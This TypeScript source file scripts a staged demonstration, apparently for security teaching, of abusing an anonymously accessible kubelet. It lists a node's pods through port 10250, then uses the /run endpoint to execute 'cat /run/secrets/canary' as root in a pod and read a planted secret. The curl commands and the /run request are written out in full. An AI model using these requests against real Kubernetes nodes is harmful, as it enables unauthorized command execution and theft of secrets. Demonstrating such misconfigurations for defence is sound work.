import { addresses, ports } from '../addresses';
import { curl } from './curl';
import { playOf } from './play';

/** Source: cmd/kubelet/app/options/options.go (applyLegacyDefaults), pkg/kubelet/server/server.go. */
export const anonymousKubelet = playOf({
  steps: [
    'admin: kubectl run web',
    'attacker: curl -k https://node-1:10250/pods',
    'attacker: curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const secret = 'S3CRET-of-web';
    cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
    await stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');

    const { signal } = stage;
    const kubelet = `https://${addresses.node1}:${ports.kubelet}`;
    const pods = await curl(cluster.attackerHost, `${kubelet}/pods`, { signal });
    if (pods.ok) {
      const { items } = JSON.parse(pods.body) as { items: { metadata: { name: string } }[] };
      const names = items.map(({ metadata }) => metadata.name).join(', ');
      await stage.gained(
        'attacker',
        'curl -k https://node-1:10250/pods',
        names,
        'every pod of the node, with its spec',
      );
    } else await stage.refused('attacker', 'curl -k https://node-1:10250/pods', pods.words);

    const command = encodeURIComponent('cat /run/secrets/canary');
    const path = `/run/default/web/web?cmd=${command}`;
    const run = await curl(cluster.attackerHost, `${kubelet}${path}`, { method: 'POST', signal });
    const did = 'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"';
    if (run.body.includes(secret)) {
      await stage.gained(
        'attacker',
        did,
        run.body.trim(),
        'a command run as root in default/web, and its secret',
      );
    } else await stage.refused('attacker', did, run.words);
  },
});
